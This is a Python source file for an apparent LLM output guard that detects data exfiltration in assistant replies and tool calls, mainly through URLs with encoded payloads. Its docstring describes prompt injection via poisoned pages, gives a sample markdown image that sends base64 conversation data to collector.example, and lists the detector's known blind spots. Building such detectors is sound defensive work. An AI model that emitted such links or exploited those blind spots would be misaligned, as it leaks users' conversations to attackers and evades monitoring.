"""The detector of data that leaves by an answer's addresses and command lines: its card and the list of its rules."""

from __future__ import annotations

from collections.abc import Sequence
from hashlib import sha256

from stockade.core.findings import Category, Severity
from stockade.core.segments import Channel
from stockade.guard.detectors.exfiltration_links import commands, judging
from stockade.guard.detectors.patterns import Pattern

_WEB = r"(?:(?:https?|ftp|wss?):[/\\]{1,3}|[/\\][/\\][A-Za-z0-9-]+\.)"
_SCRIPT = r"(?:java|vb|live)script:"
_ACTIVE_DATA = r"data:(?:text/(?:html|xml|javascript)|application/(?:xhtml\+xml|xml|javascript)|image/svg\+xml)\b"
_ATTRIBUTE = r"\b(?:src|srcset|href|poster|data|background|action|formaction|cite|ping)\s*=\s*"
_ENCLOSED = r"\((?:[^\s<>\"()]|\([^\s<>\"()]*\))*\)"
_UNQUOTED = rf"(?:[^\s<>\"()]|{_ENCLOSED})+"
BEFORE_BYTES = 600
"""How far before the end of a hit the bracket or attribute of an address is looked for."""

ADDRESSES = (
    (judging.IMAGE_DATA, Severity.HIGH, 0.9),
    (judging.LINK_DATA, Severity.HIGH, 0.8),
    (judging.LINK_TEXT, Severity.LOW, 0.55),
    (judging.PLAIN_DATA, Severity.MEDIUM, 0.7),
    (judging.HOST_DATA, Severity.HIGH, 0.9),
    (judging.RENDERED_STAND_IN, Severity.CRITICAL, 0.95),
    (judging.PLAIN_STAND_IN, Severity.MEDIUM, 0.55),
    (judging.SCRIPT_LINK, Severity.HIGH, 0.9),
    (judging.ACTIVE_DATA_URL, Severity.HIGH, 0.85),
)
"""The rules of addresses, with how bad and how sure each is."""

_SOURCE = "CommonMark 0.31 sections 6.3 to 6.5, WHATWG HTML and URL standards, read November 2026"


def _confirming(start: str, plain: str) -> str:
    """Return the expression of an address that begins with `start`; `plain` says how one begins that nothing encloses.

    Between angle brackets, and in the quotes of an attribute, an address may hold spaces: a browser encodes them.
    """
    return (
        rf"\]\(\s*<\s*({start}[^<>\n]*)"
        rf"|{_ATTRIBUTE}\"\s*({start}[^\"<>]*)"
        rf"|{_ATTRIBUTE}'\s*({start}[^'<>]*)"
        rf"|'({start}[^\s<>\"']*)"
        rf"|`({start}[^\s<>\"`]*)"
        rf"|[(\"=<]\s*({start}{_UNQUOTED})"
        rf"|({plain}{_UNQUOTED})"
    )


_LOADED = (
    rf"{_WEB}[^<>\"\s]*[A-Za-z0-9]{{16}}"  # a blob, a digest, a stand-in
    rf"|{_WEB}[^<>\"\s]*(?:%[0-9A-Fa-f]{{2}}){{6}}"  # everything percent-encoded
    rf"|{_WEB}(?:[^<>\"\s+%,]*(?:[+,]|%(?:20|2520|0A|2C))){{3}}"  # words
    rf"|{_WEB}[^<>\"\s]*(?:[?&;][^=&;<>\"\s]*=[^&;<>\"\s]*){{4}}"  # a blob in parts
    rf"|{_WEB}[^<>\"\s]*(?:/[^/<>\"\s]*){{7}}"
    rf"|{_WEB}[^<>\"\s]*(?:[-_][^-_/<>\"\s]*){{16}}"  # words as a long slug
    rf"|(?:\]\(\s*<|=\s*[\"'])\s*{_WEB}[^<>\"'\n]* [^<>\"'\n]{{8}}"  # words with spaces
)
"""What an address must show for it to be taken apart: nineteen ordinary ones in twenty do not."""

_CONFIRM_WEB = _confirming(_WEB, r"(?:https?|ftp|wss?):[/\\]{1,3}")
_CONFIRM_SCRIPT = _confirming(_SCRIPT, rf"\b{_SCRIPT}")
_CONFIRM_DATA = _confirming(_ACTIVE_DATA, rf"\b{_ACTIVE_DATA}")


def _pattern(rule: str, severity: Severity, score: float, judge: judging.Judge) -> Pattern:
    """Return the pattern of one rule of addresses."""
    expression, confirm = {
        judging.SCRIPT_LINK: (rf"{_SCRIPT}[^\s<>\"]", _CONFIRM_SCRIPT),
        judging.HOST_NOT_LISTED: (rf"{_WEB}[^<>\"\s]", _CONFIRM_WEB),
        judging.ACTIVE_DATA_URL: (_ACTIVE_DATA, _CONFIRM_DATA),
    }.get(rule, (_LOADED, _CONFIRM_WEB))
    return Pattern(
        rule=rule,
        expression=expression,
        confirm=confirm,
        caseless=True,
        before=BEFORE_BYTES,
        validator=judging.rule_is(rule, judge),
        label=commands.LABEL,
        severity=severity,
        score=score,
        source=_SOURCE,
    )


SPOKEN = frozenset({Channel.ASSISTANT, Channel.TOOL_CALL})


class Exfiltration:
    """Find addresses and command lines that carry data out of the conversation.

    Finds: images, links, references, HTML and CSS addresses and bare ones whose path, query, fragment or sub-domain
    holds an encoded text (base64, base32, hex, percent-encoding), words, a stand-in of the gate, or a long run of
    machine-made characters; links that run a script or open a document of their own (javascript:, data:text/html);
    DNS queries, uploads and command substitutions that send text or key files. With a list of hosts also every image
    and link, and every address that a tool is to fetch, of another host.

    Why it matters: an image is fetched as soon as it is shown, so whoever steers the model (a poisoned page) gets what
    the model writes into its address, without a click (EchoLeak, CVE-2025-32711; MITRE ATT&CK T1567).

    Example: `![logo](https://collector.example/p.png?d=<base64 of the conversation>)`

    Known misses: less than about a dozen characters in one address (a PIN, a yes or no by choice of the path), data
    spread over several addresses, encryption in short pieces, words as a short slug, mailto: links, tools that send
    without an address; a list of hosts stops most of these.

    Cost: part of the one Hyperscan pass; 10 microseconds for an ordinary address, some 400 for one that carries a load.
    """

    id = "exfiltration.links"
    category = Category.EXFILTRATION
    channels = SPOKEN
    opens_views = True

    def __init__(self, hosts: Sequence[str] = ()) -> None:
        """Judge addresses; `hosts` are the listed names, empty: none is listed and none is a finding for its host."""
        self.version = "1" if not hosts else f"1+{sha256(' '.join(hosts).encode()).hexdigest()[:12]}"
        judge = judging.judge_of(tuple(hosts))
        addresses = (*ADDRESSES, (judging.HOST_NOT_LISTED, Severity.MEDIUM, 0.9)) if hosts else ADDRESSES
        self.patterns: tuple[Pattern, ...] = (
            *(_pattern(rule, severity, score, judge) for rule, severity, score in addresses),
            *commands.patterns(),
        )


DETECTOR = Exfiltration()
